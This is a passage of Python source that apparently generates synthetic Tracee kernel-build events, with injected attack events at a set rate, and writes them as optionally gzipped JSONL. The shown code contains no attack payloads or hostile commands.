            if keep is None or name in keep:
                break
        if now <= last:  # only after a run of ~10 attacks in a row
            now = last + 1
        last = now
        yield fit(_to_event(p, name, args, ret, now)), None


def _identity(event: dict) -> dict:
    return event


def generate(
    count: int,
    seed: int = 1,
    attack_rate: float = 0.005,
    selected: Iterable[str] | None = None,
    attacks: Sequence[dict] | None = None,
    tracee: str | None = None,
    parsed: bool = True,
) -> Iterator[dict]:
    """`count` Tracee events of a kernel build (see generate_annotated)."""
    for event, _ in generate_annotated(count, seed, attack_rate, selected, attacks, tracee, parsed):
        yield event


def iter_jsonl(events: Iterable[dict]) -> Iterator[bytes]:
    dumps = orjson.dumps
    for event in events:
        yield dumps(event) + b"\n"


def open_output(path: str) -> IO[bytes]:
    """A binary file for writing; gzip (reproducible: no name, no mtime) for *.gz."""
    if path.endswith(".gz"):
        raw = open(path, "wb")
        out = gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0, compresslevel=6)
        out.myfileobj = raw  # closed with the gzip stream
        return out
    return open(path, "wb")


def write_jsonl(events: Iterable[dict], out: IO[bytes], chunk: int = 512) -> int:
    """Write events one JSON object a line; returns the number written."""
    n = 0
    buf: list[bytes] = []
    for line in iter_jsonl(events):
        buf.append(line)
        n += 1
        if len(buf) >= chunk:
            out.write(b"".join(buf))
            buf.clear()
    if buf:
        out.write(b"".join(buf))
    return n
